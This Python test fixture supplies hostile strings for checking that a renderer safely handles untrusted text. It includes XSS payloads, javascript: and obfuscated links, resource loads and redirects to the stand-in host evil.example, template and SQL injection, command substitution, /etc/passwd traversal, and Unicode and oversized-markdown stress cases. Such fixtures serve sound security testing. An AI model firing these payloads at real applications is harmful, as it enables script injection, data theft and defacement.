"""Texts that try to run, to load, to leave, to hide or to break out of the layout."""

from __future__ import annotations

PWN = "window.__pwned=1"
AWAY = "https://evil.example/pwned"

SCRIPTS = [
    f"<script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    f'<img src="{AWAY}.png" onerror="{PWN}">',
    f'<img src=x onerror="{PWN}">',
    f'<iframe srcdoc="<script>parent.{PWN[7:]}</script>"></iframe>',
    f'<iframe src="{AWAY}"></iframe>',
    f'<body onload="{PWN}">',
    f'<div onmouseover="{PWN}" style="position:fixed;inset:0">everywhere</div>',
    f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{PWN}">',
    f'<video><source onerror="{PWN}"></video>',
    f'<object data="data:text/html,<script>{PWN}</script>"></object>',
    f'<embed src="{AWAY}.swf">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></table></math>",
    f'"><img src=x onerror={PWN}>',
    f"' onfocus={PWN} autofocus x='",
    f"<!--><img src=x onerror={PWN}>-->",
    f"`<img src=x onerror={PWN}>` and ``</code><script>{PWN}</script>``",
    f'```html"><img src=x onerror={PWN}>\n<script>{PWN}</script>\n```',
    f"| a | b |\n|---|---|\n| <script>{PWN}</script> | <img src=x onerror={PWN}> |",
    f"# <svg/onload={PWN}>\n\n> <script>{PWN}</script>\n\n- <img src=x onerror={PWN}>",
]
LINKS = [
    f"[click](javascript:{PWN})",
    f"[click](  JaVaScRiPt:{PWN})",
    f"[click](java&#x73;cript:{PWN})",
    f"[click](javascript&colon;{PWN})",
    f"[click](\x01javascript:{PWN})",
    f"[click](vbscript:{PWN})",
    f"[click](data:text/html;base64,PHNjcmlwdD4x) [b](data:text/html,<script>{PWN}</script>)",
    f"[click](file:///etc/passwd) [b](//evil.example/pwned) [c](/lab?reset) [d](blob:{AWAY})",
    f"[ref][1]\n\n[1]: javascript:{PWN}\n[2]: {AWAY}",
    f"<javascript:{PWN}> <{AWAY}> www.evil.example/pwned {AWAY} mail@evil.example",
    f'<a href="javascript:{PWN}">click</a> <a href="{AWAY}" ping="{AWAY}">b</a>',
    f"[https://good.example]({AWAY}) [a[b]({AWAY}/inner)]({AWAY}/outer)",
    f'[titled]({AWAY} "title\\" onmouseover={PWN}")',
]
LOADS = [
    f"![alt]({AWAY}.png) ![]({AWAY}.svg) ![ref][i]\n\n[i]: {AWAY}.gif",
    f'![x](x" onerror="{PWN})',
    f"[![inside a link]({AWAY}.png)]({AWAY})",
    f'<img srcset="{AWAY}.png 2x"><picture><source srcset="{AWAY}.webp"></picture>',
    f'<link rel=stylesheet href="{AWAY}.css"><link rel=prefetch href="{AWAY}">',
    '<link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example">',
    f"<style>@import url({AWAY}.css); .tw {{ display: none !important }}</style>",
    f'<p style="background:url({AWAY}.png);position:fixed;inset:0;z-index:9999">styled</p>',
    f"<style>body {{ background: url({AWAY}) }}\n\nsection {{ visibility: hidden }}",
    f'<base href="https://evil.example/"><meta http-equiv=refresh content="0;url={AWAY}">',
    f'<form action="{AWAY}"><input name=q><button formaction="javascript:{PWN}">go</button></form>',
    f'<audio src="{AWAY}.mp3" autoplay></audio><track src="{AWAY}.vtt">',
    f'<div style="content:url({AWAY})">a</div> <font face="x" size=99>big</font>',
]
HIDDEN = [
    "\u202egnitirw sdrawkcab\u202c and forward \u2066isolated\u2067 \u2068never closed",
    "\u202a\u202b\u202d\u202e" * 200 + "end",
    "in\u200bvis\u200cible\u200d \ufeffzero\u2060width\u00ad shy " + "\u200b" * 5000,
    "Z" + "\u0301\u0335\u0489\u030d\u0316" * 120 + "algo " + "n\u0303" * 500,
    "null \0 byte \0\0 and \x01\x02\x07\x08\x0b\x0c\x0e\x1b\x7f\x85 controls",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x1b[H",
    "line\r\nbreaks\rof \u2028 every \u2029 kind\n\n\n\n\n\nfar below",
    "tags \U000e0041\U000e0042\U000e007f variation \ufe0e\ufe0f private \ue000\U0010fffd \ufffe\uffff",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇩🇪🇩 ❤️‍🔥 🧑🏽‍🚀 " + "👨‍👩‍👧‍👦" * 300,
    "هذه إجابة باللغة العربية مع **نص غامق** و [رابط](https://evil.example/pwned) ثم English.",
    "תשובה בעברית 123 (abc) – מספרים\n\n1. אחת\n2. שתיים",
    "日本語の長い文章" * 400 + "ไทยไม่มีช่องว่าง" * 300 + "ﷺ﷽" * 50,
]
SYNTAX = [
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %} %s %n %(x)s $(id) `id` {0.__class__}",
    "__proto__",
    "constructor",
    "toString hasOwnProperty prototype undefined null NaN true [object Object]",
    "$$\\href{javascript:window.__pwned=1}{x}$$ $\\unicode{x3C}$ \\(\\require{html}\\) "
    "\\[\\style{background:url(https://evil.example/pwned)}{x}\\] $\\def\\a{\\a\\a}\\a$",
    "```\nan unclosed fence <b>\n\n~~~ and another",
    "<!-- an unclosed comment\n\n# heading\n\n<div><div><table><tr><td>open",
    "<![CDATA[ x ]]> <?php echo 1 ?> <!DOCTYPE html> &lt;script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "'; DROP TABLE labels; -- \\ \" ' ` \\u0000 \\n %00 ../../../etc/passwd C:\\con\\nul",
    "> " * 10_000 + "deep",
    "".join(f"{'  ' * n}- {n}\n" for n in range(300)),
    "[" * 10_000 + "x" + "](y)" * 10_000,
    "*" * 20_000 + "_" * 20_000 + "`" * 20_001,
    "| " + "a | " * 400 + "\n" + "|---" * 400 + "|\n" + ("| " + "wide cell | " * 400 + "\n") * 4,
    "| a | b |\n|---|---|\n" + "| one | two |\n" * 2000,
    "# " + "heading " * 2000 + "\n" + "=" * 5000 + "\n" + "***\n" * 500,
    "1234567890. " * 50 + "\n" + "999999999. last\n- [x] " + "done\n- [ ] " * 500,
    "W" * 100_000,
    "    " + "W" * 20_000 + "\n\n`" + "i" * 20_000 + "`\n\n```\n" + "M" * 20_000 + "\n```",
    "https://evil.example/" + "pwned/" * 3000,
    "A sentence that goes on. " * 42_000,
    " ",
    "",
]
PAYLOADS = [*SCRIPTS, *LINKS, *LOADS, *HIDDEN, *SYNTAX]
# Short enough to be an id or a name, and not blank.
NAMES = [text for text in PAYLOADS if text.strip() and len(text) <= 400]
